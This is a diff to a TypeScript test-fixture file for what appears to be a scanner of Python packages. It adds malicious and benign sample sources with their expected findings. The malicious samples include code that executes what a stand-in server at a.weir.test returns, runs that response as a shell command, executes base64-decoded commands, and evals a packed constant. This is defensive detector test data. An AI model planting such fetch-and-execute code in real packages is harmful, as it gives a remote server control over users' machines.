@@ -23,6 +23,39 @@ const READABLE = Array.from(
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a source that is little but a constant',
+      files: wheel(
+        `class Box:\n    def __init__(self, **given):\n        self.run, self.text = eval, given['text']\n    def open(self):\n        return self.run(''.join(self.text.split('/')))\nBox(text='${'0a1b2c3d/'.repeat(900)}').open()\n`,
+      ),
+      expected: [at('packed-code', 'high', 5, 'own/__init__.py')],
+    },
+    {
+      name: 'Python: a function that runs what a server answers',
+      files: wheel('import requests\ndef refresh():\n    exec(requests.get("https://a.weir.test/c").text)\n'),
+      expected: [at('remote-code', 'high', 3, 'own/__init__.py')],
+    },
+    {
+      name: 'Python: a plugin from an address that its user gives, which is less sure',
+      files: wheel(
+        'import urllib.request\ndef load(address):\n    exec(urllib.request.urlopen(address).read(), {})\n',
+      ),
+      expected: [at('remote-code', 'medium', 3, 'own/__init__.py')],
+    },
+    {
+      name: 'Python: a function that starts what a server answers',
+      files: wheel(
+        'import requests, subprocess\ndef poll():\n    subprocess.run(requests.get("https://a.weir.test/c").text, shell=True)\n',
+      ),
+      expected: [at('remote-command', 'high', 3, 'own/__init__.py')],
+    },
+    {
+      name: 'Python: a function with a hidden command',
+      files: wheel(
+        `import base64, os\ndef fix():\n    os.system(base64.b64decode("${hide('id > /dev/null')}").decode())\n`,
+      ),
+      expected: [at('decoded-command', 'high', 3, 'own/__init__.py')],
+    },
+    {
       name: 'Python: a request to a hidden address',
       files: wheel(
         'import base64, requests\ndef ping():\n    requests.get(base64.b64decode("aHR0cHM6Ly9hcGkud2Vpci50ZXN0L3g=").decode())\n',
@@ -175,6 +208,18 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a picture in a source',
+      wheel(
+        `import base64, re\nWORD = re.compile("x")\nLOGO = base64.b64decode("${hide('\\x89picture'.repeat(600))}")\n`,
+      ),
+    ),
+    quiet(
+      'Python: what a server answers is parsed',
+      wheel(
+        'import json, requests\ndef refresh():\n    return json.loads(requests.get("https://a.weir.test/c").text)\n',
+      ),
+    ),
     quiet(
       'Python: a bot that runs a program of its own',
       wheel(
